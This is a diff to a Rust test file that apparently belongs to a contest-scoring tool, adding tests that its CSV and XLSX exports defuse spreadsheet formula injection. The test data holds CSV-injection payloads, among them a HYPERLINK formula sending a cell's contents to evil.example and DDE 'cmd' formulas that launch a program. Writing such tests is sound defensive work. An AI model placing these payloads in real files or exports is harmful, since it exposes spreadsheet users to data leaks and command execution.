@@ -7,7 +7,7 @@ use std::path::Path;
 use calamine::{Data, Reader};
 use giamkhao::model::{Points, SheetStatus};
 use giamkhao::store;
-use giamkhao::store::export::{awards, blank_scoresheets, tables, write_csv, write_xlsx};
+use giamkhao::store::export::{Cell, awards, blank_scoresheets, tables, write_csv, write_xlsx};
 use giamkhao::text::Lang;
 
 const SAMPLE: &str = "assets/samples/hai-phong-2023.ron";
@@ -452,4 +452,112 @@ fn after_the_council_puts_da20_first_every_table_lists_it_above_da14() {
     let text = std::fs::read_to_string(&csv[0]).unwrap();
     let (da20, da14) = (text.find(";DA20;").unwrap(), text.find(";DA14;").unwrap());
     assert!(da20 < da14, "the CSV lists DA14 first");
+}
+
+/// What a registration file can put in a cell that a spreadsheet would run as a formula (OWASP's
+/// CSV injection): each starts with `=`, `+`, `-`, `@`, a tab or a carriage return.
+const FORMULAS: [&str; 7] = [
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+/// The sample with people's text that looks like formulas in every place a table shows it: a title,
+/// leaders, an organization, a judge's name, a criterion's name, an award's name, a comment.
+fn sample_with_formulas() -> giamkhao::model::Session {
+    let mut session = store::load_session(Path::new(SAMPLE)).unwrap();
+    let da07 = session.submissions.iter_mut().find(|s| s.id == "DA07").unwrap();
+    da07.title = FORMULAS[0].into();
+    da07.organization = FORMULAS[3].into();
+    // Every leader, so that the award list has one whichever projects win.
+    for submission in &mut session.submissions {
+        submission.leader = FORMULAS[2].into();
+    }
+    session.contest.judges[0].name = FORMULAS[4].into();
+    session.contest.rounds[0].criteria[0].name = FORMULAS[1].into();
+    session.contest.awards.tiers[0].name = FORMULAS[5].into();
+    let sheet = session.scoresheets.iter_mut().find(|s| s.judge == "gk2").unwrap();
+    sheet.entries[0].comment = FORMULAS[6].into();
+    session
+}
+
+#[test]
+fn csv_cells_of_peoples_text_that_start_like_a_formula_begin_with_an_apostrophe() {
+    let session = sample_with_formulas();
+    let result = giamkhao::scoring::compute(&session).pop().unwrap();
+    for lang in [Lang::Vi, Lang::En] {
+        let mut all = tables(&session, &result, lang);
+        all.push(awards(&session, &result, lang));
+        all.extend(blank_scoresheets(&session, &result.round, lang).unwrap());
+        let mut cells = Vec::new();
+        for table in &all {
+            let bytes = store::export::csv_bytes(table, lang).unwrap();
+            let text = String::from_utf8(bytes).unwrap();
+            let mut reader = csv::ReaderBuilder::new()
+                .delimiter(lang.list_separator())
+                .has_headers(false)
+                .flexible(true)
+                .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+            for record in reader.records() {
+                cells.extend(record.unwrap().iter().map(String::from));
+            }
+        }
+        // Each formula is there, readable, behind an apostrophe (the header of "Điểm chi tiết" has
+        // the criterion, the one of "Theo giám khảo" the judge).
+        for formula in FORMULAS {
+            let neutral = format!("'{formula}");
+            assert!(cells.contains(&neutral), "{lang:?}: «{neutral:?}» not in any CSV");
+        }
+        // No cell starts like a formula any more.
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{lang:?}: «{cell:?}» would be run as a formula"
+            );
+        }
+    }
+    // The numbers giamkhao writes itself stay numbers a spreadsheet reads as such, negative ones
+    // too; the same text typed by a person is text.
+    let mut table = store::export::Table::new("Bảng", "bang", &["Chênh lệch", "Số", "Ghi chú"]);
+    table.rows.push(vec![
+        Cell::Number {
+            value: common::p("-1.5"),
+            decimals: 1,
+        },
+        Cell::Int(-3),
+        Cell::Text("-1,5".into()),
+    ]);
+    for (lang, line) in [(Lang::Vi, "-1,5;-3;'-1,5"), (Lang::En, "-1.5,-3,\"'-1,5\"")] {
+        let text = String::from_utf8(store::export::csv_bytes(&table, lang).unwrap()).unwrap();
+        assert_eq!(text.lines().nth(1), Some(line), "{lang:?}");
+    }
+}
+
+#[test]
+fn xlsx_keeps_a_title_that_looks_like_a_formula_as_a_plain_text_cell() {
+    let session = sample_with_formulas();
+    let result = giamkhao::scoring::compute(&session).pop().unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("ket-qua.xlsx");
+    write_xlsx(&path, &tables(&session, &result, Lang::Vi)).unwrap();
+    let mut book = calamine::open_workbook_auto(&path).unwrap();
+    let sheet = book.worksheet_range("Kết quả").unwrap();
+    let row = sheet
+        .rows()
+        .find(|r| string(&r[2]) == "DA07")
+        .expect("DA07 in the results");
+    // The title as typed, as text: no apostrophe (Excel shows a text cell as it is), no formula.
+    assert_eq!(row[3], Data::String(FORMULAS[0].into()));
+    assert_eq!(row[4], Data::String(FORMULAS[3].into()));
+    for name in book.sheet_names() {
+        let formulas = book.worksheet_formula(&name).unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{name} has a formula cell"
+        );
+    }
 }
